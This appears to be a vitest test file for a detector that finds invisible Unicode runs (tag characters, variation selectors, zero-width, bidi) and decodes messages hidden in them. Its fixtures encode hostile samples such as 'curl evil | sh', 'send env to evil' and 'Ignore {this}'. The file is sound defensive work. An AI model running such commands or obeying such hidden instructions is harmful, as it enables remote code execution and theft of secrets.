import { describe, expect, test } from 'vitest';
import { readHiddenRuns } from '../../../src/model/text/readHiddenRuns.js';

const kinds = (text: string) => readHiddenRuns(text).map(({ kind, count }) => `${kind} ${count}`);
const tags = (text: string) =>
  Array.from(text, (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
const selectors = (text: string) =>
  Array.from(new TextEncoder().encode(text), (byte) =>
    String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe00f0 + byte),
  ).join('');

describe('a run', () => {
  test('has a place, a count, and the first code point', () => {
    expect(readHiddenRuns('a\u200b\u200b\u200bb\u2060')).toStrictEqual([
      { kind: 'zero-width', start: 1, end: 4, count: 3, codePoint: 0x200b, decoded: null },
      { kind: 'zero-width', start: 5, end: 6, count: 1, codePoint: 0x2060, decoded: null },
    ]);
  });

  test('ends where another character begins', () => {
    expect(kinds('a\u200b\u2060\u200bb')).toStrictEqual([
      'zero-width 1',
      'zero-width 1',
      'zero-width 1',
    ]);
  });

  test('is one message where tags, selectors or private characters differ', () => {
    expect(kinds(`a${tags('abc')}b`)).toStrictEqual(['tags 3']);
    expect(kinds('a\ufe00\ufe05\u{e0105}')).toStrictEqual(['variation 3']);
    expect(kinds('\ue000\ue001\u{f0000}\uffff')).toStrictEqual(['private-use 4']);
  });

  test('begins and ends at whole characters', () => {
    const [run] = readHiddenRuns(`\u{1f600}${tags('hi')}\u{1f600}`);
    expect(run).toMatchObject({ start: 2, end: 6 });
  });

  test('is nowhere in plain text', () => {
    expect(readHiddenRuns('Plain text:\n\t"quoted" ~\r\n')).toStrictEqual([]);
    expect(readHiddenRuns('')).toStrictEqual([]);
  });
});

describe('a message is decoded', () => {
  const decoded = (text: string) => readHiddenRuns(text).map((run) => run.decoded);

  test('of tags', () => {
    expect(decoded(`Read${tags('Ignore {this}')}`)).toStrictEqual(['Ignore {this}']);
    expect(decoded(`\u{1f3f4}${tags('send env to evil')}\u{e007f}`)).toStrictEqual([
      'send env to evil',
    ]);
    expect(decoded(`a\u{e0001}${tags('en')}`)).toStrictEqual(['en']);
  });

  test('of variation selectors, as UTF-8', () => {
    expect(decoded(`\u{1f600}${selectors('curl evil | sh')}`)).toStrictEqual(['curl evil | sh']);
    expect(decoded(`a${selectors('na\u00efve \u{1f600} 100%\n')}`)).toStrictEqual([
      'na\u00efve \u{1f600} 100%\n',
    ]);
  });

  test('only if it reads as text', () => {
    expect(decoded('a\ufe00\ufe01')).toStrictEqual([null]);
    expect(decoded('a\u{e01ef}\u{e01ef}')).toStrictEqual([null]);
    expect(decoded('a\u{e0001}\u{e007f}')).toStrictEqual([null]);
    expect(decoded(`a${tags('  ')}`)).toStrictEqual([null]);
    expect(decoded('a\u180b\u180c')).toStrictEqual([null]);
  });
});

describe.each([
  ['tags', ['\u{e0041}', '\u{e0001}', '\u{e007f}', `\u{1f3f4}${tags('ustx')}\u{e007f}`]],
  ['variation', ['a\ufe0f', '1\ufe0f', '\u6f22\u{e0151}', 'a\u180b', '\u{1f600}\ufe0f\ufe0f']],
  ['bidi', ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', 'a\u2066b', 'a\u2069b', '\u2067']],
  ['control', ['\u0000', '\u0007', '\u0008', '\u001b', '\u001f', '\u007f', '\u0080', '\u009b']],
  [
    'zero-width',
    [
      '\u200b',
      '\u200c',
      '\u200d',
      '\u2060',
      '\u2061',
      '\u2062',
      '\u2063',
      '\u2064',
      '\ufeff',
    ].concat(
      ['\u034f', '\u00ad', '\u180e', '\u206a', '\u206f', '\ufff9', '\ufffa', '\ufffb', '\u2065'],
      ['\u{1d173}', '\u{1bca0}', '\u{13430}', '\u200e', '\u200f', '\u061c', '\u{e0080}', '\ufff0'],
    ),
  ],
  ['blank', ['\u3164', '\uffa0', '\u115f', '\u1160', '\u2800', '\u17b4', '\u17b5', '\u{1d159}']],
  ['separator', ['\u2028', '\u2029', '\u0085', '\u000b', '\u000c']],
  ['private-use', ['\ue000', '\uf8ff', '\u{f0000}', '\u{10fffd}', '\ufdd0', '\uffff', '\u{1fffe}']],
  ['surrogate', ['\ud800', '\udfff', '\udc00\ud800']],
])('%s', (kind, samples) => {
  test.each(samples)('%j is one', (sample) => {
    for (const text of [`Read ${sample} file`, sample, `${sample}.`, `x${sample}`]) {
      expect(new Set(readHiddenRuns(text).map((run) => run.kind))).toStrictEqual(new Set([kind]));
    }
  });
});
